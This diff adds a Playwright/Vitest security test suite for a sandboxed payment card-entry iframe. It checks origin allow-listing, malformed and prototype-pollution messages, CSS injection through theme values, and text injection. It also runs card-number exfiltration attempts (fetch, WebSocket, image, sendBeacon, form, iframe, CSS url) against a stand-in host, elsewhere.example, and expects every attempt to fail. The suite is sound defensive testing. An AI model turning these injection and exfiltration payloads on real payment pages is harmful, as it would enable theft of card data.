@@ -1,0 +1,330 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Frame, Page } from 'playwright-core';
+import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { openFrame } from './support/frame-host.ts';
+import { Person } from './support/person.ts';
+import { openAccount } from './support/sandbox.ts';
+import { Recording } from './support/traces.ts';
+
+/** Where somebody would like to send a card. */
+const ELSEWHERE = 'http://elsewhere.example';
+
+const theme = {
+  ...{ text: 'rgb(0, 0, 0)', quiet: 'rgb(0, 0, 0)', ground: 'rgba(0, 0, 0, 0)', line: 'rgb(0, 0, 0)' },
+  ...{ accent: 'rgb(0, 0, 0)', danger: 'rgb(190, 0, 0)', scheme: 'normal', font: 'serif' },
+  ...{ size: 16, height: 44, radius: 6, gap: 12, weight: 500, letters: 0, words: 0 },
+};
+const view = {
+  ...{ lang: 'es', dir: 'ltr', phase: 'editing', disabled: false, required: true, again: false },
+  ...{ test: true, accepted: '', marks: false, theme },
+};
+const init = { datafono: 'card-frame', version: 1, view };
+
+const person = new Person();
+let address = '';
+/** The origin of a page that the frame lists, and of one that it does not. */
+let [listed, unlisted] = ['', ''];
+let recording: Recording;
+/** What has reached the place where nothing should arrive. */
+let arrived: string[] = [];
+
+beforeAll(async () => {
+  address = await openFrame((await openAccount()).cards);
+  [listed, unlisted] = await Promise.all([openPage('127.0.0.1'), openPage('localhost')]);
+});
+
+beforeEach(async () => {
+  await person.enter();
+  arrived = [];
+  recording = new Recording(person.page);
+  await person.context.route(`${ELSEWHERE}/**`, async (route) => {
+    arrived.push(route.request().url());
+    await route.fulfill({ body: '' });
+  });
+});
+
+afterEach(() => person.leave());
+
+/** Serves an empty page. It ends with the process. */
+async function openPage(host: string): Promise<string> {
+  const server = createServer((_, response) => {
+    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Shop</title><body></body>');
+  });
+  server.listen(0, host);
+  await once(server, 'listening');
+  return `http://${host}:${(server.address() as AddressInfo).port}`; // a server on a port has one
+}
+
+interface Opened {
+  readonly page: Page;
+  readonly frame: Frame;
+}
+
+/** Opens a page with the frame in it, and nothing else. */
+async function open(origin: string): Promise<Opened> {
+  const { page } = person;
+  await page.goto(`${origin}/`);
+  await page.evaluate(
+    (src) =>
+      new Promise((loaded) => {
+        const frame = document.createElement('iframe');
+        frame.src = src;
+        frame.width = '400';
+        frame.height = '400';
+        frame.addEventListener('load', loaded);
+        frame.sandbox.add('allow-scripts', 'allow-same-origin');
+        document.body.append(frame);
+      }),
+    address,
+  );
+  const frame = page.frames().find((one) => one.url().startsWith(address)) ?? page.mainFrame();
+  return { page, frame };
+}
+
+/** Sends a message with ports to the frame. The first port and what it has received are `port` and `answers` of the page. */
+async function send({ page, frame }: Opened, message: unknown, ports = 1): Promise<void> {
+  await frame.evaluate(() => {
+    const marked = new Promise((resolve) => {
+      addEventListener('message', ({ data }) => data === 'mark' && resolve(data));
+    });
+    Object.assign(window, { marked });
+  });
+  await page.evaluate(
+    ([data, count]) => {
+      const channels = Array.from({ length: count }, () => new MessageChannel());
+      const answers: unknown[] = [];
+      const port = channels[0]?.port1;
+      if (port) port.onmessage = ({ data: got }) => answers.push(got);
+      Object.assign(window, { port, answers });
+      const given = channels.map(({ port2 }) => port2);
+      frames[0]?.postMessage(data, '*', given);
+      frames[0]?.postMessage('mark', '*');
+    },
+    [message, ports] as const,
+  );
+  await frame.evaluate(() => Reflect.get(window, 'marked'));
+}
+
+const answersOf = (page: Page): Promise<readonly unknown[]> =>
+  page.evaluate(() => Reflect.get(window, 'answers'));
+
+/** The first answer. */
+async function answerTo(opened: Opened, message: unknown): Promise<unknown> {
+  await send(opened, message);
+  await expect.poll(() => answersOf(opened.page)).not.toEqual([]);
+  return (await answersOf(opened.page))[0];
+}
+
+const hasFields = (frame: Frame) => frame.locator('pay-card-fields').count();
+
+describe('a page that the frame does not list', () => {
+  it('cannot show it', async () => {
+    const { page } = await open(unlisted);
+    expect(page.frames().some((frame) => frame.url().startsWith(address))).toBe(false);
+  });
+
+  it('gets no answer, even where no header keeps it from showing it', async () => {
+    await person.context.route(address, async (route) => {
+      const response = await route.fetch();
+      const { 'content-security-policy': _, ...headers } = response.headers();
+      await route.fulfill({ response, headers });
+    });
+    const opened = await open(unlisted);
+    await send(opened, init);
+    expect([await answersOf(opened.page), await hasFields(opened.frame)]).toEqual([[], 0]);
+  });
+});
+
+describe('a page that the frame lists', () => {
+  it.each([
+    ['no port', init, 0],
+    ['two ports', init, 2],
+    ['another name', { ...init, datafono: 'other' }, 1],
+    ['no view', { ...init, view: undefined }, 1],
+    ['a view without a theme', { ...init, view: { ...view, theme: {} } }, 1],
+    ['a text', 'card-frame', 1],
+    ['nothing', null, 1],
+  ])('starts nothing with %s', async (_, message, ports) => {
+    const opened = await open(listed);
+    await send(opened, message, ports);
+    expect([await answersOf(opened.page), await hasFields(opened.frame)]).toEqual([[], 0]);
+    expect(await answerTo(opened, init)).toMatchObject({ type: 'state', untouched: true });
+  });
+
+  it('of another version is told so, and gets no field', async () => {
+    const opened = await open(listed);
+    expect(await answerTo(opened, { ...init, version: 2 })).toEqual({ version: 1 });
+    expect(await hasFields(opened.frame)).toBe(0);
+  });
+
+  it('starts it once, and not from another window: a second message gets no answer', async () => {
+    const opened = await open(listed);
+    const { page, frame } = opened;
+    await page.evaluate((data) => {
+      const sibling = document.createElement('iframe');
+      document.body.append(sibling);
+      const script = document.createElement('script');
+      script.textContent = "parent.frames[0].postMessage(data, '*', [new MessageChannel().port2])";
+      Object.assign(Object(sibling.contentWindow), { data });
+      sibling.contentDocument?.body.append(script);
+    }, init);
+    await send(opened, 'nothing');
+    expect(await hasFields(frame)).toBe(0);
+    expect(await answerTo(opened, init)).toMatchObject({ type: 'state' });
+    await send(opened, init);
+    expect([await answersOf(page), await hasFields(frame)]).toEqual([[], 1]);
+  });
+
+  it('sends 10,000 malformed messages, and nothing is thrown, shown or told', async () => {
+    const opened = await open(listed);
+    const { page, frame } = opened;
+    await answerTo(opened, init);
+    await frame.locator('#number').fill('4242');
+    const told = await page.evaluate(
+      (good) =>
+        new Promise<number>((resolve) => {
+          const { port }: { readonly port?: MessagePort } = window as object;
+          let count = 0;
+          if (!port) return;
+          port.onmessage = ({ data }) => {
+            count += 1;
+            if (data.lang === 'done' || data.seq === 7) resolve(count);
+          };
+          const bad: unknown[] = [
+            ...[
+              null,
+              undefined,
+              0,
+              '',
+              'view',
+              [],
+              {},
+              { type: 'view' },
+              { type: 'eval' },
+              { type: 'command', seq: 1 },
+            ],
+            ...[
+              { type: 'command', seq: Number.NaN, command: 'clear' },
+              { type: 'command', seq: '1', command: 'clear' },
+            ],
+            ...[
+              { type: 'focus', at: 'all', preventScroll: 1 },
+              { type: 'send', id: 1 },
+              { type: ['view'], view: good },
+            ],
+            ...[
+              JSON.parse('{"__proto__":{"type":"view","view":{}}}'),
+              { type: 'view', view: { ...good, theme: null } },
+            ],
+            ...[
+              new Map([['type', 'view']]),
+              new Date(),
+              new Uint8Array(8),
+              { type: 'view', view: { ...good, lang: 7 } },
+            ],
+          ];
+          for (let sent = 0; sent < 10_000; sent += 1) port.postMessage(bad[sent % bad.length]);
+          port.postMessage({ type: 'command', seq: 7, command: 'show' });
+        }),
+      view,
+    );
+    expect(told).toBe(1);
+    expect(await frame.locator('#number').inputValue()).toBe('4242');
+    expect(await frame.evaluate(() => Reflect.get({}, 'view'))).toBeUndefined();
+    expect(recording.console).toEqual([]);
+  });
+
+  it.each([
+    ['text', 'rgba(0, 0, 0, 0)', 'text: must not be transparent'],
+    ['text', 'url(http://elsewhere.example/)', 'text: must be a colour'],
+    ['ground', 'image-set("http://elsewhere.example/" 1x)', 'ground: must be a colour'],
+    ['line', 'red; background: url(http://elsewhere.example/)', 'line: must be a colour'],
+    ['font', '"a"; } * { background: url(//elsewhere.example) }', 'font: must be names of fonts'],
+    ['scheme', 'dark url(http://elsewhere.example/)', 'scheme: must be light or dark'],
+    ['size', 2, 'size: 2 is not from 16'],
+    ['height', 4_000, 'height: 4000 is not from'],
+    ['ground', 'rgb(10, 10, 10)', 'text: must have a contrast of 3:1'],
+  ])('cannot deceive with %s %s', async (name, value, wrong) => {
+    const opened = await open(listed);
+    const { frame } = opened;
+    const answer = await answerTo(opened, { ...init, view: { ...view, theme: { ...theme, [name]: value } } });
+    expect(answer).toMatchObject({ wrong: expect.stringContaining(wrong) });
+    const field = frame.locator('#number');
+    const shown = await field.evaluate((input) => {
+      const { color, fontSize, height } = getComputedStyle(input);
+      return { color, fontSize, height };
+    });
+    expect(shown).toEqual({ color: 'rgb(0, 0, 0)', fontSize: '16px', height: '44px' });
+    expect(arrived).toEqual([]);
+  });
+
+  it('cannot put words into it', async () => {
+    const opened = await open(listed);
+    const { page, frame } = opened;
+    const words = 'Escriba su clave';
+    await answerTo(opened, { ...init, view: { ...view, lang: words, accepted: words, phase: 'editing' } });
+    await page.evaluate((text) => {
+      const { port }: { readonly port?: MessagePort } = window as object;
+      port?.postMessage({
+        type: 'command',
+        seq: 1,
+        command: 'refuse',
+        message: text,
+        fields: { number: text },
+      });
+    }, words);
+    await frame.locator('#number').waitFor();
+    expect(await frame.locator('body').textContent()).not.toContain(words);
+  });
+});
+
+it('what is typed cannot be sent anywhere from the frame, whatever runs in it', async () => {
+  const opened = await open(listed);
+  const { page, frame } = opened;
+  await answerTo(opened, init);
+  await frame.locator('#number').fill('4242424242424242');
+  const tried = await frame.evaluate(async (url) => {
+    const results: Record<string, string> = {};
+    const attempt = async (name: string, act: () => unknown) => {
+      results[name] = await Promise.resolve()
+        .then(act)
+        .then(
+          (value) => `${value}`,
+          () => 'failed',
+        );
+    };
+    await attempt('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }));
+    await attempt(
+      'socket',
+      () =>
+        new Promise((resolve) =>
+          Object.assign(new WebSocket('ws://elsewhere.example/'), { onerror: () => resolve('failed') }),
+        ),
+    );
+    await attempt(
+      'image',
+      () =>
+        new Promise((resolve) =>
+          Object.assign(new Image(), { src: `${url}/image`, onerror: () => resolve('failed') }),
+        ),
+    );
+    await attempt('window', () => `${window.open(`${url}/window`)}`);
+    await attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, '4242') && 'queued');
+    await attempt('form', () => {
+      const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'get' });
+      document.body.append(form);
+      form.submit();
+    });
+    await attempt('frame', () =>
+      document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/frame` })),
+    );
+    await attempt('style', () => Object.assign(document.body.style, { background: `url(${url}/style)` }));
+    return results;
+  }, ELSEWHERE);
+  expect(tried).toMatchObject({ fetch: 'failed', socket: 'failed', image: 'failed', window: 'null' });
+  await page.evaluate(() => new Promise(requestAnimationFrame));
+  await frame.locator('#number').waitFor(); // it is still the same document
+  expect(arrived).toEqual([]);
+});
